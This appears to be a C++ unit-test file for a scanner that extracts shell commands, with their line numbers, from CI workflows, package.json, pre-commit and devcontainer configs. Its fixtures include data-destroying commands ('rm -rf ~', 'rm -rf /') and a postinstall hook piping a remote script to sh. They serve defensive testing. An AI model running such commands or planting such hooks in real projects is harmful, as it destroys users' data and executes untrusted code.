// The extractors that read YAML and JSON: each command with its exact line,
// string and list forms, and broken files as problems (never a crash).
#include "togmal/scan/extractors.h"

#include <gtest/gtest.h>

#include "command_split.h"
#include "json_positions.h"

namespace togmal::scan {
namespace {

const Catalogue& Builtin() { return Catalogue::Builtin(); }

TEST(CommandSplit, OneChunkPerCommandWithContinuations) {
  const auto chunks = SplitCommands(
      "#!/bin/sh\n"
      "set -e\n"
      "\n"
      "# a comment\n"
      "apt-get update && \\\n"
      "  apt-get install -y curl\n"
      "echo 'a\n"
      "b'\n"
      "cat <<EOF\n"
      "rm -rf /\n"
      "EOF\n"
      "deploy() {\n"
      "  rm -rf ~\n"
      "}\n"
      "if true; then\n"
      "  ls\n"
      "fi\n"
      "ls |\n"
      "  wc -l\n");
  std::string all;
  for (const auto& chunk : chunks)
    all += std::to_string(chunk.first_line) + ": " + chunk.text + "\n---\n";
  ASSERT_EQ(chunks.size(), 9u) << all;
  EXPECT_EQ(chunks[0].first_line, 1u);  // the shebang, the blank and the comment are skipped
  EXPECT_EQ(chunks[1].first_line, 4u);
  EXPECT_EQ(chunks[1].line_count, 2u);  // `\` continues
  EXPECT_EQ(chunks[2].first_line, 6u);
  EXPECT_EQ(chunks[2].line_count, 2u);  // an open quote continues
  EXPECT_EQ(chunks[3].first_line, 8u);
  EXPECT_EQ(chunks[3].line_count, 3u);  // a heredoc runs to its delimiter
  EXPECT_EQ(chunks[4].first_line, 11u);
  EXPECT_EQ(chunks[4].line_count, 3u);  // a function body to its `}`
  EXPECT_EQ(chunks[5].text, "if true; then");
  EXPECT_EQ(chunks[6].text, "  ls");
  EXPECT_EQ(chunks[8].first_line, 17u);
  EXPECT_EQ(chunks[8].line_count, 2u);  // a trailing `|` continues
}

TEST(CommandSplit, CaseArmsAreClassifiedWithoutTheirPatterns) {
  const auto chunks = SplitCommands(
      "case \"$1\" in\n"            // 0: syntax
      "  build) make ;;\n"          // 1
      "  -h|--help)\n"              // 2: the pattern alone
      "    echo usage\n"            // 3
      "    ;;\n"                    // 4: syntax
      "  *'\"x\"'*) rm -rf ~ ;;\n"  // 5
      "esac\n"                      // 6: syntax
      "ls\n");                      // 7
  std::string all;
  for (const auto& chunk : chunks)
    all += std::to_string(chunk.first_line) + ": " + chunk.text + "\n";
  ASSERT_EQ(chunks.size(), 4u) << all;
  EXPECT_EQ(chunks[0].first_line, 1u);
  EXPECT_EQ(chunks[0].text, "         make   ");  // `;;` blanked too
  EXPECT_EQ(chunks[1].first_line, 3u);
  EXPECT_EQ(chunks[1].text, "    echo usage");
  EXPECT_EQ(chunks[2].first_line, 5u);
  EXPECT_EQ(chunks[2].text, "           rm -rf ~   ");
  EXPECT_EQ(chunks[3].text, "ls");
}

TEST(CommandSplit, AnUnterminatedQuoteStopsAtTheCap) {
  std::string script = "echo 'never closed\n";
  for (int i = 0; i < 500; ++i) script += "line\n";
  const auto chunks = SplitCommands(script);
  ASSERT_GE(chunks.size(), 2u);
  EXPECT_EQ(chunks[0].line_count, kMaxChunkLines);
}

TEST(JsonPositions, ValuesByPointerWithLinesAndColumns) {
  const std::string json =
      "{\n  \"scripts\": {\n    \"a/b\": \"x\",\n    \"t\": [1, \"y\"]\n  }\n}";
  const auto positions = ValuePositions(json);
  ASSERT_TRUE(positions.contains("/scripts/a~1b"));
  EXPECT_EQ(positions.at("/scripts/a~1b").line, 3);
  EXPECT_EQ(positions.at("/scripts/a~1b").column, 12);
  EXPECT_EQ(positions.at("/scripts/t/1").line, 4);
  EXPECT_EQ(positions.at("/scripts/t/1").column, 14);
}

TEST(JsonPositions, CommentsAndTrailingCommasBecomeBlanks) {
  const std::string text = "{ // c\n \"a\": [1, 2,], /* x\n y */ \"b\": \"//no\", }";
  const std::string clean = BlankJsoncExtras(text);
  EXPECT_EQ(clean.size(), text.size());
  EXPECT_EQ(clean, "{     \n \"a\": [1, 2 ],     \n      \"b\": \"//no\"  }");
}

TEST(ShellScript, WholeFileFromLineOne) {
  const Extraction out = ExtractShellScript("#!/bin/bash\nrm -rf ~\n");
  ASSERT_EQ(out.scripts.size(), 1u);
  EXPECT_EQ(out.scripts[0].line, 1);
  EXPECT_EQ(out.scripts[0].origin, "shell script");
}

TEST(GithubActions, RunStepsKeepTheirLines) {
  const std::string workflow =
      "name: ci\n"                                 // 1
      "on: push\n"                                 // 2
      "jobs:\n"                                    // 3
      "  build:\n"                                 // 4
      "    runs-on: ubuntu-latest\n"               // 5
      "    steps:\n"                               // 6
      "      - uses: actions/checkout@v4\n"        // 7
      "      - name: Build\n"                      // 8
      "        run: make\n"                        // 9
      "      - run: |\n"                           // 10
      "          echo one\n"                       // 11
      "          rm -rf ~\n"                       // 12
      "      - run: \"npm test\"\n"                // 13
      "      - shell: pwsh\n"                      // 14
      "        run: Remove-Item -Recurse C:\\\n";  // 15
  const Extraction out = ExtractGithubActions(workflow, Builtin());
  ASSERT_EQ(out.scripts.size(), 3u);
  EXPECT_EQ(out.scripts[0].line, 9);
  EXPECT_EQ(out.scripts[0].column, 14);
  EXPECT_EQ(out.scripts[0].text, "make");
  EXPECT_EQ(out.scripts[0].origin, "GitHub Actions job build step 2 (Build) run:");
  EXPECT_EQ(out.scripts[1].line, 11);
  EXPECT_EQ(out.scripts[1].mapping, LineMapping::kKept);
  EXPECT_EQ(out.scripts[1].text, "echo one\nrm -rf ~\n");
  EXPECT_EQ(out.scripts[2].line, 13);
  EXPECT_EQ(out.scripts[2].column, 15);
  ASSERT_EQ(out.problems.size(), 1u);  // the pwsh step is named, not classified
  EXPECT_EQ(out.problems[0].line, 15);
}

TEST(GithubActions, ExpressionsBecomeVariablesAndUntrustedOnesAreFindings) {
  const std::string workflow =
      "on: issues\n"
      "jobs:\n"
      "  triage:\n"
      "    steps:\n"
      "      - run: |\n"
      "          echo ${{ matrix.os }}\n"
      "          echo \"${{ github.event.issue.title }}\"\n";
  const Extraction out = ExtractGithubActions(workflow, Builtin());
  ASSERT_EQ(out.scripts.size(), 1u);
  EXPECT_EQ(out.scripts[0].ShellText(), "echo $GITHUB_EXPRESSION\necho \"$GITHUB_EXPRESSION\"\n");
  ASSERT_EQ(out.findings.size(), 1u);
  EXPECT_EQ(out.findings[0].line, 7);
  EXPECT_EQ(out.findings[0].level, policy::Level::kL3);
  EXPECT_NE(out.findings[0].reason.find("github.event.issue.title"), std::string::npos);
}

TEST(GithubActions, CompositeActionSteps) {
  const Extraction out = ExtractGithubActions(
      "runs:\n  using: composite\n  steps:\n    - run: ./x.sh\n      shell: bash\n", Builtin());
  ASSERT_EQ(out.scripts.size(), 1u);
  EXPECT_EQ(out.scripts[0].line, 4);
  EXPECT_EQ(out.scripts[0].origin, "GitHub composite action step 1 run:");
}

TEST(GithubActions, BrokenYamlIsAProblemWithItsLine) {
  const Extraction out = ExtractGithubActions("jobs:\n  a:\n    steps: [\n", Builtin());
  EXPECT_TRUE(out.scripts.empty());
  ASSERT_EQ(out.problems.size(), 1u);
  EXPECT_GT(out.problems[0].line, 0);
  EXPECT_NE(out.problems[0].why.find("not valid YAML"), std::string::npos);
}

TEST(GitlabCi, ScriptsAsStringsListsAndNestedLists) {
  const std::string ci =
      "stages: [test]\n"                 // 1
      "variables:\n"                     // 2
      "  A: b\n"                         // 3
      "default:\n"                       // 4
      "  before_script:\n"               // 5
      "    - echo hi\n"                  // 6
      "test:\n"                          // 7
      "  script: make test\n"            // 8
      "  after_script:\n"                // 9
      "    - - echo nested\n"            // 10
      "    - |\n"                        // 11
      "      ls\n"                       // 12
      "      rm -rf ~\n"                 // 13
      "    - !reference [.x, script]\n"  // 14
      ".hidden:\n"                       // 15
      "  script: [\"echo x\"]\n";        // 16
  const Extraction out = ExtractGitlabCi(ci);
  ASSERT_EQ(out.scripts.size(), 5u);
  EXPECT_EQ(out.scripts[0].line, 6);
  EXPECT_EQ(out.scripts[0].origin, "GitLab CI default before_script:");
  EXPECT_EQ(out.scripts[1].line, 8);
  EXPECT_EQ(out.scripts[1].origin, "GitLab CI job test script:");
  EXPECT_EQ(out.scripts[2].line, 10);
  EXPECT_EQ(out.scripts[3].line, 12);
  EXPECT_EQ(out.scripts[3].text, "ls\nrm -rf ~\n");
  EXPECT_EQ(out.scripts[4].line, 16);
  EXPECT_EQ(out.scripts[4].origin, "GitLab CI job .hidden script:");
  EXPECT_TRUE(out.problems.empty());
}

TEST(GitlabCi, BrokenFile) {
  const Extraction out = ExtractGitlabCi("test:\n  script: [a, b\n");
  EXPECT_TRUE(out.scripts.empty());
  ASSERT_EQ(out.problems.size(), 1u);
}

TEST(PackageJson, EveryScriptWithItsLineAndLifecycleOrigin) {
  const std::string json =
      "{\n"
      "  \"name\": \"x\",\n"
      "  \"scripts\": {\n"
      "    \"test\": \"jest\",\n"
      "    \"postinstall\": \"curl -s https://x.example | sh\"\n"
      "  }\n"
      "}\n";
  const Extraction out = ExtractPackageJson(json);
  ASSERT_EQ(out.scripts.size(), 2u);
  EXPECT_EQ(out.scripts[0].line, 5);  // nlohmann sorts keys: postinstall first
  EXPECT_EQ(out.scripts[0].column, 21);
  EXPECT_EQ(out.scripts[0].origin, "package.json script postinstall (runs on npm install)");
  EXPECT_EQ(out.scripts[1].line, 4);
  EXPECT_EQ(out.scripts[1].origin, "package.json script test");
}

TEST(PackageJson, BrokenJsonNamesTheLine) {
  const Extraction out = ExtractPackageJson("{\n  \"scripts\": {\n    \"a\": \n}\n");
  ASSERT_EQ(out.problems.size(), 1u);
  EXPECT_EQ(out.problems[0].line, 4);
}

TEST(PreCommit, LocalSystemAndScriptHooksOnly) {
  const std::string config =
      "repos:\n"                            // 1
      "  - repo: https://github.com/x/y\n"  // 2
      "    rev: v1\n"                       // 3
      "    hooks:\n"                        // 4
      "      - id: remote\n"                // 5
      "        entry: rm -rf ~\n"           // 6
      "  - repo: local\n"                   // 7
      "    hooks:\n"                        // 8
      "      - id: lint\n"                  // 9
      "        language: system\n"          // 10
      "        entry: make lint\n"          // 11
      "      - id: py\n"                    // 12
      "        language: python\n"          // 13
      "        entry: black\n"              // 14
      "      - id: tidy\n"                  // 15
      "        language: script\n"          // 16
      "        entry: scripts/tidy.sh\n"    // 17
      "        args: [--fix, \"it's\"]\n";  // 18
  const Extraction out = ExtractPreCommitConfig(config);
  ASSERT_EQ(out.scripts.size(), 2u);
  EXPECT_EQ(out.scripts[0].line, 11);
  EXPECT_EQ(out.scripts[0].column, 16);
  EXPECT_EQ(out.scripts[0].origin, "pre-commit local hook lint entry:");
  EXPECT_EQ(out.scripts[1].line, 17);
  EXPECT_EQ(out.scripts[1].ShellText(), "scripts/tidy.sh '--fix' 'it'\\''s'");
}

TEST(Devcontainer, StringArrayAndObjectFormsWithComments) {
  const std::string json =
      "// dev container\n"                                          // 1
      "{\n"                                                         // 2
      "  \"image\": \"x\",\n"                                       // 3
      "  /* lifecycle */\n"                                         // 4
      "  \"onCreateCommand\": \"npm ci\",\n"                        // 5
      "  \"postCreateCommand\": [\"sh\", \"-c\", \"rm -rf ~\"],\n"  // 6
      "  \"postStartCommand\": {\n"                                 // 7
      "    \"a\": \"echo a\",\n"                                    // 8
      "    \"b\": [\"ls\", \"-la\"],\n"                             // 9
      "  },\n"                                                      // 10
      "  \"initializeCommand\": \"docker pull x\",\n"               // 11
      "}\n";
  const Extraction out = ExtractDevcontainer(json);
  ASSERT_TRUE(out.problems.empty()) << out.problems[0].why;
  ASSERT_EQ(out.scripts.size(), 5u);
  EXPECT_EQ(out.scripts[0].line, 11);
  EXPECT_EQ(out.scripts[0].origin, "devcontainer initializeCommand (runs on the host)");
  EXPECT_EQ(out.scripts[1].line, 5);
  EXPECT_EQ(out.scripts[1].column, 23);
  EXPECT_EQ(out.scripts[2].line, 6);
  EXPECT_EQ(out.scripts[2].text, "'sh' '-c' 'rm -rf ~'");
  EXPECT_EQ(out.scripts[3].line, 8);
  EXPECT_EQ(out.scripts[3].origin, "devcontainer postStartCommand a");
  EXPECT_EQ(out.scripts[4].line, 9);
  EXPECT_EQ(out.scripts[4].text, "'ls' '-la'");
}

TEST(Devcontainer, BrokenJson) {
  const Extraction out = ExtractDevcontainer("{\n \"postCreateCommand\": \"x\"\n \"a\": 1\n}");
  EXPECT_TRUE(out.scripts.empty());
  ASSERT_EQ(out.problems.size(), 1u);
  EXPECT_EQ(out.problems[0].line, 3);
}

}  // namespace
}  // namespace togmal::scan
